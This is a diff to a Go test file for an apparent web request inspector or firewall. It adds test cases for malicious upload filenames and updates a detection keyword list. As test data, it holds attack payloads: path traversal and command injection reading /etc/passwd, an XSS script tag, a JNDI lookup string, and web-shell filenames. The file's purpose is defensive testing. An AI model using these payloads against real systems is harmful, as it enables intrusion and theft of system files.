@@ -79,10 +79,17 @@ func TestBodies(t *testing.T) {
 		{"multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n../../../etc/passwd\r\n--b--", "traversal", "body.f"},
 		{"text/xml", `<a b="1"><c>&lt;script>alert(1)&lt;/script></c></a>`, "xss", "body"},
 		{"text/plain", "$(cat /etc/passwd)", "cmdi", "body"},
+		{"multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.PhP. \"\r\n\r\nx\r\n--b--", "code", "body (name)"},
 	} {
 		v := in.InspectRequest("POST", "/", [][2]string{{"Content-Type", c.contentType}}, c.body)
 		if v.Score < in.Threshold() || !slices.Contains(v.Classes, c.class) || v.Field != c.field {
 			t.Errorf("%s: %+v, want %s in %s", c.body, v, c.class, c.field)
+		}
+	}
+	for name, want := range map[string]bool{"shell.jsp": true, "a.asp::$DATA": true, ".htaccess": true, "asp.net.pdf": false, "php": false, "photo.jpg": false, "notes.txt": false} {
+		v := in.InspectRequest("POST", "/", [][2]string{{"X-Filename", name}}, "x")
+		if got := v.Class == "code" && v.Score >= in.Threshold(); got != want {
+			t.Errorf("upload of %q: %+v", name, v)
 		}
 	}
 	v := in.InspectRequest("GET", "/", [][2]string{{"X-Api-Version", "${jndi:ldap://192.0.2.1/a}"}, {"Cookie", "a=b; c=d"}}, "")
@@ -141,7 +148,7 @@ func TestGatesAgree(t *testing.T) {
 			continue
 		}
 		switch l.word {
-		case "_/", "/var/", "/root", "/usr/", "/opt/", "/home/", "system32", "union", "select", "ping", "allow_url", "auto_pre", "errorlevel", "cmdextv", "com.opensymphony":
+		case "_/", "/var/", "/root", "/usr/", "/opt/", "/home/", "system32", "union", "select", "ping", "allow_url", "auto_pre", "errorlevel", "cmdextv", "opensym", "tefact", "onefact", "sloader", "transfo":
 			continue // counts only behind '=', '?' or '/', or with blanks: fuzzing holds that
 		}
 		if !rawBytes.hit("x" + l.word + "x") {
